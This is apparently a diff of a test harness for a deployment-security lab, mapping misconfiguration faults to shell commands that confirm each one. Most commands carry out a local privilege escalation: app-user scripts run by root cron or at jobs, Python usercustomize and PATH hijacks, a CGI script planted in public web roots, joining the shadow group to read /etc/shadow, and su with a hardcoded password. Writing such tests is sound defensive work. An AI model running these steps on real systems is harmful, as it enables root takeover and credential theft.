@@ -23,6 +23,7 @@ from deploytests.stacks import for_platform
 from deploytests.suite.lab import APPS
 
 from faults import ALLOWED, PLAIN
+from members import MEMBERS
 
 APP = APPS / "yourapplication"
 camp = Campaign(APP, load_config(APP), faults=[], clean=0, progress=print, stack=for_platform(sys.argv[1]))
@@ -65,6 +66,8 @@ RESTART = ("pkill -f '^/usr/bin/python3 /opt/metrics/exporter.py'; sleep 0.5; (c
            "--regid www-data --init-groups env HOME=/var/www /usr/bin/python3 /opt/metrics/exporter.py </dev/null >/dev/null "
            "2>&1 &); sleep 1.5; ")
 PYMARK = "import os; open(\\\"/tmp/{t}-ran-as\\\", \\\"w\\\").write(\\\"uid=%%d\\\" %% os.getuid())\\n"
+RESTART_APACHE = ("apache2ctl stop; i=0; while pgrep -x apache2 >/dev/null && [ $i -lt 100 ]; do sleep 0.05; "
+                  "i=$((i+1)); done; apache2ctl start; sleep 2; ")
 CGI = "#!/bin/sh\\necho Content-Type: text/plain\\necho\\nid\\n"
 EFFECT = {
     "p01": "SHELL:" + app_writes(D + "/jobs/reindex.sh", marker("p01")) + "cd /var/spool/cron/atjobs; f=$(ls | grep '^a' | head -1); mv $f $(echo $f | cut -c1-6)00000000; atd -s; sleep 3; echo -n 'the at job (root spool) ran the app user script as: '; cat /tmp/p01-ran-as",
@@ -90,8 +93,8 @@ EFFECT = {
     "p16": "ROLLBACK:" + f"curl -s -o /dev/null -D - {H}/ | grep -i x-deploy-release | sed 's/^/after the rollback: /'",
     "a01": "SHELL:" + "echo -n 'the app user (in adm) su root -c id, no password: '; " + APPW + "su root -c id </dev/null",
     "a02": "SHELL:" + APPW + "sh -c 'rm -f /var/log/apache2/yourapplication-access.log; ln -s /etc/nologin /var/log/apache2/yourapplication-access.log'; rm -f /etc/nologin; apache2ctl graceful; sleep 2; curl -s -o /dev/null " + H + "/; echo 'the app user (adm) link made root Apache create: '; ls -l /etc/nologin",
-    "a03": "SHELL:" + app_writes("/var/www/status/x.cgi", CGI) + f"echo -n 'the public GET /x.cgi on the status site: '; curl -s -H 'Host: status.example.com' http://{IP}/x.cgi",
-    "a04": "SHELL:" + app_writes("/usr/lib/cgi-bin/x", CGI) + f"echo -n 'the public GET /cgi-bin/x on the app site: '; curl -s -H 'Host: localhost' http://{IP}/cgi-bin/x",
+    "a03": "SHELL:" + app_writes("/var/www/status/x.cgi", CGI) + RESTART_APACHE + f"echo -n 'the public GET /x.cgi on the status site: '; curl -s -H 'Host: status.example.com' http://{IP}/x.cgi",
+    "a04": "SHELL:" + app_writes("/usr/lib/cgi-bin/x", CGI) + RESTART_APACHE + f"echo -n 'the public GET /cgi-bin/x on the app site: '; curl -s -H 'Host: localhost' http://{IP}/cgi-bin/x",
     "a05": "SHELL:" + f"echo -n 'the public GET /metrics on the app site: '; curl -s -H 'Host: localhost' http://{IP}/metrics",
     "a06": "SHELL:" + APPW + "sh -c 'printf \"" + PYMARK.format(t="a06") + "\" > /var/lib/app-metrics/plugins/x.py'; " + RESTART + "echo -n 'the restarted exporter ran the app user plugin as: '; cat /tmp/a06-ran-as",
     "a07": "SHELL:" + APPW + "sh -c 'printf \"" + PYMARK.format(t="a07") + "\" > /var/www/.local/lib/python{python_version}/site-packages/usercustomize.py'; " + RESTART + "echo -n 'the restarted exporter imported the app user usercustomize as: '; cat /tmp/a07-ran-as",
@@ -99,13 +102,21 @@ EFFECT = {
     "a09": "SHELL:" + app_writes(D + "/bin/id", "#!/bin/sh\\n/usr/bin/id > /tmp/a09-ran-as\\nexec /usr/bin/id $*\\n") + APPW + "sudo -n /usr/sbin/apache2ctl graceful; echo -n 'the allowed sudo apache2ctl graceful ran the app user id as: '; cat /tmp/a09-ran-as",
     "a10": "SHELL:" + app_writes(D + "/sync.sh", marker("a10", "sudo -n id")) + DEPW + "sh -c 'cd " + D + " && sh ./sync.sh'; echo -n 'the cron job (as cron runs it, as {deploy_user}) ran the app user sync.sh; its sudo -n id: '; cat /tmp/a10-ran-as",
 }
+EFFECT.update({
+    "m1": "LOGIN:true|echo -n 'an SSH command of {login} ran the app user notify-login via ~/.bashrc, whose sudo -n id said: '; cat /tmp/m1-ran-as",
+    "m2": "SHELL:" + APPW + "sh -c 'echo shadow:x:42:{app_user} >> /var/lib/extrausers/group'; echo -n 'as the app user (initgroups), the first bytes of /etc/shadow: '; " + APPW + "head -c 24 /etc/shadow; echo",
+    "m3": "SHELL:" + "runuser -u www-data -- python3 -c \"import os, pty, time; pid, fd = pty.fork(); pid or os.execvp('su', ['su', 'support', '-c', 'id > /tmp/m3-ran-as; head -c 30 {config} >> /tmp/m3-ran-as']); time.sleep(1); os.write(fd, b'Support-2026' + bytes([10])); time.sleep(3); os.waitpid(pid, 0)\"; echo -n 'www-data su support (the app uid): '; cat /tmp/m3-ran-as",
+    "m4": "SHELL:" + APPW + "sh -c 'printf \"" + PYMARK.format(t="m4") + "\" > /var/www/.local/lib/python{python_version}/site-packages/usercustomize.py'; " + RESTART + "echo -n 'the restarted exporter imported the app user usercustomize as: '; cat /tmp/m4-ran-as",
+    "m5": "SHELL:" + app_writes(D + "/rotate.sh", marker("m5")) + "sh -c \"$(sed -n 's/^0 4 [*] [*] [*] root //p' /etc/cron.d/app-sync)\"; echo -n 'the root job (as cron runs it) ran the app user rotate.sh as: '; cat /tmp/m5-ran-as",
+})
 PRE = {
+    "m1": app_writes(D + "/bin/notify-login", marker("m1", "sudo -n id")),
     "p02": app_writes(D + "/motd.sh", marker("p02")),
     "p05": APPW + "sh -c 'printf \"#!/bin/sh\\nsudo -n id > /tmp/p05-ran-as 2>&1\\nexec /usr/lib/openssh/sftp-server $*\\n\" > /opt/sftp-audit/sftp-server'",
     "p06": APPW + "sh -c 'echo \"sudo -n id > /tmp/p06-ran-as 2>&1\" > " + D + "/.env'",
     "p08": APPW + "sh -c 'echo \"sudo -n id > /tmp/p08-ran-as 2>&1\" > " + D + "/.env'",
 }
-FAULTS = {f.id.split("-")[0]: f for f in PLAIN + ALLOWED}
+FAULTS = {f.id.split("-")[0]: f for f in PLAIN + ALLOWED + MEMBERS}
 HOOK_C = ("#include <stdio.h>\n#include <unistd.h>\n__attribute__((constructor)) static void hook(void) {\n"
           "    FILE *f = fopen(\"/tmp/p17-ran-as\", \"w\");\n    if (f) { fprintf(f, \"uid=%d\\n\", (int)getuid()); fclose(f); }\n}\n")
 
